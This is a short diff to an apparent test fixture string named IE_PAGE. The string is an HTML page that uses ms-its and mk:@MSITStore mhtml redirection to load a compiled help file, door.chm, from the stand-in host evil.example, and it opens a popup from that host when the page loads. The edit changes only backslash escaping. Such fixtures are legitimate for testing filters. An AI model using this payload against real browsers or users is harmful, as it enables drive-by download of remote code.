@@ -55,7 +55,7 @@ IE_PAGE = """<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.0 Transitional//EN">
 <META http-equiv=Content-Type content="text/html; charset=windows-1252">
 <META http-equiv=refresh content="4; url=ms-its:mhtml:file://C:\\nosuch.mht!http://evil.example/door.chm::/door.htm">
 <LINK href="http://www.fort.example/style.css" type=text/css rel=stylesheet>
-<STYLE>.strip { background: #46547e url(mk:@MSITStore:mhtml:file://C:\\nosuch.mht!http://evil.example/door.chm::/strip.gif) }</STYLE>
+<STYLE>.strip { background: #46547e url(mk:@MSITStore:mhtml:file://C:\\\\nosuch.mht!http://evil.example/door.chm::/strip.gif) }</STYLE>
 <META content="MSHTML 6.00.2800.1106" name=GENERATOR></HEAD>
 <BODY bgColor=#f4efe6 onload="window.open('http://evil.example/popup')">
 <TABLE class=page cellSpacing=0 cellPadding=0 width=640 align=center border=0><TBODY>
